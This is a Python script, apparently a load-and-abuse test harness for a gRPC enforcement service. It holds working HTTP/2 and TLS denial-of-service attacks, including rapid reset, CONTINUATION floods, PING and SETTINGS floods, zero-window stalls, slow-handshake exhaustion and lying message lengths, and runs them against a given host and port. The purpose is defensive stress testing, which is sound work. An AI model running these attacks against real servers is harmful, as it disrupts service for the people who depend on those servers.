"""Callers who mean harm, over HTTP/2 by hand: attacks.py HOST:PORT ATTACK SECONDS does one attack and tells what it met.

Some do not come as far as HTTP/2: they begin to agree on TLS and never finish.

A process of its own, so that it costs good callers nothing but what it costs the server. It knows the wire (RFC 9113)
and nothing of the answers; what an attack may cost is not decided here.
"""

import selectors
import socket
import ssl
import sys
import time
from dataclasses import dataclass
from itertools import count, repeat
from typing import Any

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
INITIAL_WINDOW_SIZE = 4
CANCEL = (8).to_bytes(4, "big")

ENFORCEMENT = b"/esa.enforcement.v1.EnforcementService/"

# As many calls as a connection may have open, as many bytes as a question and any other message may have.
STREAMS, QUESTION_BYTES, REQUEST_BYTES = 1024, 64 << 10, 512 << 10

# As many bytes as a call, and a connection, may send ahead of what is read of it.
STREAM_WINDOW, WINDOW = 32 << 10, 1 << 20

# What is heard of a caller until it is answered over TLS.
HELLO_BYTES = 4 << 10

# What is put together before it is sent.
CHUNK = 64 << 10


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def field(name, value):
    """A header that is written out and not remembered (RFC 7541, 6.2.2)."""
    written = b"\0"
    for text in (name, value):
        assert len(text) < 127
        written += bytes([len(text)]) + text
    return written


def head(call=b"Authorize", service=ENFORCEMENT):
    """The headers of a call: POST and http are known to the static table."""
    told = [(b":path", service + call), (b":authority", b"localhost")]
    told += [(b"content-type", b"application/grpc"), (b"te", b"trailers")]
    return b"\x83\x86" + b"".join(field(*of) for of in told)


def message(payload, length=None):
    return b"\0" + (len(payload) if length is None else length).to_bytes(4, "big") + payload


def streams(most=None):
    """Numbers of calls."""
    return range(1, 2 * most, 2) if most else count(1, 2)


def client_hello():
    """What a client says first over TLS, as OpenSSL says it."""
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    said = ssl.MemoryBIO()
    client = context.wrap_bio(ssl.MemoryBIO(), said, server_hostname="localhost")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        # It waits for the answer, which nobody reads.
        return said.read()
    raise AssertionError("agreed with nobody")


CLIENT_HELLO = client_hello()

# A record of TLS (RFC 8446, 5.1) may have 16 KiB, a message of a handshake (4) many records.
HANDSHAKE, RECORD = 22, 16 << 10


def record(part):
    return bytes([HANDSHAKE, 3, 1]) + len(part).to_bytes(2, "big") + part


# Each yields what one connection sends, in order, and ends when it only waits any more.


def rapid_reset():
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, head()) + frame(RST_STREAM, 0, stream, CANCEL)


def local_reset():
    # Names of headers are in lower case: the server has to reset each of these calls.
    malformed = head() + field(b"Upper", b"case")
    for stream in streams():
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, malformed)


def continuation():
    yield frame(HEADERS, 0, 1, head())
    yield from repeat(frame(CONTINUATION, 0, 1, field(b"x", b"y" * 100) * 64))


def empty_continuation():
    yield frame(HEADERS, 0, 1, head())
    yield from repeat(frame(CONTINUATION, 0, 1))


def open_streams():
    for stream in streams(STREAMS):
        yield frame(HEADERS, END_HEADERS, stream, head())


def open_batches():
    for stream in streams(STREAMS):
        yield frame(HEADERS, END_HEADERS, stream, head(b"BatchAuthorize"))


def more_streams_than_allowed():
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, head())


def ping():
    yield from repeat(frame(PING, 0, 0, b"attacked"))


def settings():
    yield from repeat(frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2, "big") + (1 << 16).to_bytes(4, "big")))


def window_update():
    yield frame(HEADERS, END_HEADERS, 1, head())
    yield from repeat(frame(WINDOW_UPDATE, 0, 1, (1).to_bytes(4, "big")))


def pings_between_bytes():
    # A message that is sent a few bytes at a time, with a ping after each, and taken back before its end.
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, head()) + frame(DATA, 0, stream, message(b"", 30_000))
        yield from repeat(frame(DATA, 0, stream, bytes(8)) + frame(PING, 0, 0, b"attacked") * 3, 3_000)
        yield frame(RST_STREAM, 0, stream, CANCEL)


def pings_between_trailers():
    # A call that is refused, and headers of it that nobody waits for.
    yield frame(HEADERS, END_HEADERS, 1, head(b"Nothing"))
    yield from repeat(frame(HEADERS, END_HEADERS, 1) + frame(PING, 0, 0, b"attacked") * 14)


def header_list():
    # Forty times what is allowed, in headers that the table remembers and a byte repeats.
    remembered = b"\x40\x01x\x64" + b"y" * 100
    for stream in streams():
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, head() + remembered + b"\xbe" * 3000)


def slow_preface():
    for byte in PREFACE:
        yield bytes([byte])


def slow_tls():
    for byte in CLIENT_HELLO:
        yield bytes([byte])


def half_of_tls():
    yield CLIENT_HELLO[: len(CLIENT_HELLO) // 2]


def tls_without_an_end():
    # The answer to it, with the certificate, is all that this costs; what should follow does not.
    yield CLIENT_HELLO


def long_tls(sent=60_000):
    # A hello of nearly 64 KiB, without its end: whoever waits for that keeps what came.
    length = (1 << 16) - 1
    message = b"\1" + length.to_bytes(3, "big") + b"\3\3" + bytes(sent)
    for at in range(0, len(message), RECORD):
        yield record(message[at : at + RECORD])


def longest_tls():
    yield from long_tls(HELLO_BYTES - 100)


def whole_calls(call=b"Authorize", payload=b"\x10\x01", service=ENFORCEMENT):
    for stream in streams(STREAMS):
        sent = frame(DATA, END_STREAM, stream, message(payload))
        yield frame(HEADERS, END_HEADERS, stream, head(call, service)) + sent


def large_answers():
    # A question of four bytes a thousand times over.
    yield from whole_calls(b"BatchAuthorize", b"\x0a\x02\x10\x01" * 1000)


def watches():
    yield from whole_calls(b"WatchSubscription", b"")


def watches_of_health():
    yield from whole_calls(b"Watch", b"", b"/grpc.health.v1.Health/")


def reflection():
    name = b"esa.enforcement.v1.EnforcementService"
    asked = b"\x22" + bytes([len(name)]) + name
    yield from whole_calls(b"ServerReflectionInfo", asked, b"/grpc.reflection.v1.ServerReflection/")


def lying_length(call=b"Authorize", length=QUESTION_BYTES):
    for stream in streams(STREAMS):
        sent = frame(DATA, 0, stream, message(b"", length))
        yield frame(HEADERS, END_HEADERS, stream, head(call)) + sent


def lying_length_of_batch():
    yield from lying_length(b"BatchAuthorize", REQUEST_BYTES)


def unfinished_batch():
    for stream in streams(STREAMS):
        sent = message(b"\x0a" * (REQUEST_BYTES - 1024), REQUEST_BYTES)
        parts = [sent[at : at + (16 << 10)] for at in range(0, len(sent), 16 << 10)]
        head_of_it = frame(HEADERS, END_HEADERS, stream, head(b"BatchAuthorize"))
        yield head_of_it + b"".join(frame(DATA, 0, stream, part) for part in parts)


def questions_ahead():
    # A first question whose answer cannot be sent, then as many as a call, and a connection, may send ahead.
    asked = message(b"\x0a\x02\x10\x01")
    most = WINDOW // STREAM_WINDOW
    for stream in streams(most):
        yield frame(HEADERS, END_HEADERS, stream, head(b"StreamAuthorize")) + frame(DATA, 0, stream, asked)
    part = asked * ((STREAM_WINDOW // 2 - len(asked)) // len(asked))
    for stream in streams(most):
        yield frame(DATA, 0, stream, part) * 2


@dataclass(frozen=True)
class Attack:
    """What is done on each of so many connections. `window` is what the server may send in each call."""

    sends: Any
    connections: int = 16
    window: int = 65535
    reads: bool = True
    # How long is waited between what is sent, seconds; one that waits does not begin with the preface.
    pause: float = 0.0
    # Whether it never comes as far as HTTP/2, because TLS is spoken.
    tls: bool = False
    # Whether its calls are honest work that is paid with a processor, whoever asks for it.
    works: bool = False


# Connections of attacks that fill each with as many open calls as it may have: some MiB each, in a debug build.
FULL = 2

ATTACKS = {
    "rapid reset": Attack(rapid_reset),
    "local reset": Attack(local_reset),
    "CONTINUATION": Attack(continuation),
    "CONTINUATION of nothing": Attack(empty_continuation),
    "open streams": Attack(open_streams, FULL),
    "open streams beyond what is allowed": Attack(more_streams_than_allowed, FULL),
    "open streams of batches": Attack(open_batches, FULL),
    "watches": Attack(watches, FULL),
    "watches of health": Attack(watches_of_health, FULL),
    "reflection": Attack(reflection, FULL),
    "PING": Attack(ping),
    "PING, no answer read": Attack(ping, reads=False),
    "PING between bytes of messages": Attack(pings_between_bytes),
    "PING between trailers": Attack(pings_between_trailers),
    "SETTINGS": Attack(settings),
    "SETTINGS, no answer read": Attack(settings, reads=False),
    "WINDOW_UPDATE": Attack(window_update),
    "header list too large": Attack(header_list),
    "slow preface": Attack(slow_preface, 1000, pause=0.1),
    "slow TLS": Attack(slow_tls, 1000, pause=0.1, tls=True),
    "half of a TLS handshake": Attack(half_of_tls, 1000, tls=True),
    "TLS handshake without an end": Attack(tls_without_an_end, 1000, tls=True),
    "TLS handshake as long as it may be": Attack(longest_tls, 1000, tls=True),
    "TLS handshake too long": Attack(long_tls, 1000, tls=True),
    "zero window": Attack(whole_calls, FULL, window=0),
    "zero window, large answers": Attack(large_answers, 4, window=0, works=True),
    "window of a byte, large answers": Attack(large_answers, 4, window=1, works=True),
    "large answers not read": Attack(large_answers, 4, window=2**31 - 1, reads=False, works=True),
    "lying length": Attack(lying_length, FULL),
    "lying length of batches": Attack(lying_length_of_batch, 4),
    "unfinished batches": Attack(unfinished_batch, 4),
    "questions ahead, no answer taken": Attack(questions_ahead, 64, window=0),
}


class Connection:
    """One connection of an attack, never waited for."""

    def __init__(self, address, attack):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=5)
        self.socket.setblocking(False)
        self.chunks = attack.sends()
        self.waiting = b""
        if not attack.pause and not attack.tls:
            window = INITIAL_WINDOW_SIZE.to_bytes(2, "big") + attack.window.to_bytes(4, "big")
            self.waiting = PREFACE + frame(SETTINGS, 0, 0, window) + frame(SETTINGS, ACK, 0)
        self.pause, self.goes_on = attack.pause, 0.0

    def send(self):
        """Sends what there is room for; whether there is more."""
        if time.monotonic() < self.goes_on:
            return True
        chunks, size = [self.waiting], len(self.waiting)
        while size < CHUNK and (chunk := next(self.chunks, None)):
            chunks.append(chunk)
            size += len(chunk)
            if self.pause:
                self.goes_on = time.monotonic() + self.pause
                break
        self.waiting = b"".join(chunks)
        if not self.waiting:
            return False
        try:
            self.waiting = self.waiting[self.socket.send(self.waiting) :]
        except BlockingIOError:
            pass
        return True

    def is_open(self):
        """Reads what there is; whether the other end is still there."""
        try:
            return bool(self.socket.recv(1 << 18))
        except BlockingIOError:
            return True


def run(address, attack, seconds):
    """Attacks for so long; a connection that is closed is opened again. Returns how many were opened, and closed."""
    opened = closed = 0
    selector = selectors.DefaultSelector()
    ends = time.monotonic() + seconds
    while time.monotonic() < ends:
        for _ in range(min(50, attack.connections - len(selector.get_map()))):
            connection = Connection(address, attack)
            selector.register(connection.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, connection)
            opened += 1
        for key, events in selector.select(0.01):
            connection = key.data
            try:
                sends = not events & selectors.EVENT_WRITE or connection.send()
                is_open = not (attack.reads and events & selectors.EVENT_READ) or connection.is_open()
            except OSError:
                sends, is_open = False, False
            if not is_open:
                selector.unregister(connection.socket)
                connection.socket.close()
                closed += 1
            elif not sends:
                # What is not read is not looked at again, or there would be no end of looking.
                if attack.reads:
                    selector.modify(connection.socket, selectors.EVENT_READ, connection)
                else:
                    selector.modify(connection.socket, selectors.EVENT_WRITE, connection)
                    time.sleep(0.01)
        time.sleep(attack.pause / 10)
    return opened, closed


if __name__ == "__main__":
    print("opened {}, closed {}".format(*run(sys.argv[1], ATTACKS[sys.argv[2]], float(sys.argv[3]))))
